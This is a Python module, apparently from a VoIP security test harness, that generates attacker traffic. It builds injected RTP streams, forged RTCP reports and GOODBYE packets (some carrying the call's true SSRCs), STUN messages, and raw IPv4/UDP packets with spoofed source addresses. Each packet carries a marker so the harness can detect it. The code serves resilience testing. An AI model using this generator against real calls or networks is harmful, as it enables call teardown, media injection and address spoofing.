"""What the attacker sends. Every packet of his bears `MARK`, so that it is known again wherever it turns up.

Each function yields pairs of (bytes, (host, port)) without end.
"""

import itertools
import os
import random
import socket
import struct

from . import stun

MARK = b"NOT-OF-THIS-CALL"
PAYLOAD = (MARK * 10)[:160]
SENDER_REPORT, RECEIVER_REPORT, GOODBYE = 200, 201, 203
STUN_REQUEST, STUN_INDICATION, STUN_SUCCESS = 0x0001, 0x0011, 0x0101
SOFTWARE, XOR_MAPPED_ADDRESS = 0x8022, 0x0020


def rtp(targets):
    """PCMU streams (RFC 3550 §5.1), one toward each target, each with a random SSRC, packet after packet."""
    streams = [(target, *(random.getrandbits(bits) for bits in (32, 16, 32))) for target in targets]
    for count in itertools.count():
        for target, source, sequence, stamp in streams:
            yield _rtp(source, sequence + count, stamp + 160 * count), target


def _rtp(source, sequence, stamp):
    return struct.pack("!BBHII", 0x80, 0, sequence & 0xFFFF, stamp & 0xFFFFFFFF, source) + PAYLOAD


def rtcp(kind, source):
    """One RTCP packet (RFC 3550 §6.4, §6.6): the mark stands in the profile's part of a report, or is the reason to go."""
    if kind == SENDER_REPORT:
        body = struct.pack("!IQIII", source, random.getrandbits(64), random.getrandbits(32), 500, 80000) + MARK
    elif kind == RECEIVER_REPORT:
        body = struct.pack("!I", source) + MARK
    else:
        reason = bytes([len(MARK)]) + MARK + bytes(3)
        report = struct.pack("!BBHI", 0x80, RECEIVER_REPORT, 1, source)
        return report + struct.pack("!BBHI", 0x81, GOODBYE, 1 + len(reason) // 4, source) + reason
    return struct.pack("!BBH", 0x80, kind, len(body) // 4) + body


def binding(kind):
    """One STUN Binding message (RFC 8489 §5); the mark is its SOFTWARE."""
    body = struct.pack("!HH", SOFTWARE, len(MARK)) + MARK
    if kind == STUN_SUCCESS:
        body += struct.pack("!HHHHI", XOR_MAPPED_ADDRESS, 8, 1, random.getrandbits(16), random.getrandbits(32))
    return struct.pack("!HHI", kind, len(body), stun.COOKIE) + os.urandom(12) + body


def control(targets, sources):
    """RTCP and STUN in turn toward each target; RTCP by a random SSRC and by each of `sources`, which are the true ones."""
    while True:
        for target in targets:
            for source in (random.getrandbits(32), *sources):
                for kind in (GOODBYE, RECEIVER_REPORT, SENDER_REPORT):
                    yield rtcp(kind, source), target
            for kind in (STUN_REQUEST, STUN_INDICATION, STUN_SUCCESS):
                yield binding(kind), target


def spoofed(datagrams, names, own):
    """The same datagrams as whole IPv4 packets from a random port of the address that `names` has for their target.

    Never from one of `own`, which are the (address, port) that the phones themselves send from: such a packet is the phone's.
    """
    for data, target in datagrams:
        port = random.randint(1024, 65535)
        if (names[target], port) in own:
            continue
        # No checksum is a valid UDP checksum in IPv4; the kernel fills in that of IP.
        segment = struct.pack("!HHHH", port, target[1], 8 + len(data), 0) + data
        header = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, 64, socket.IPPROTO_UDP, 0,
            socket.inet_aton(names[target]), socket.inet_aton(target[0]),
        )
        yield header + segment, target
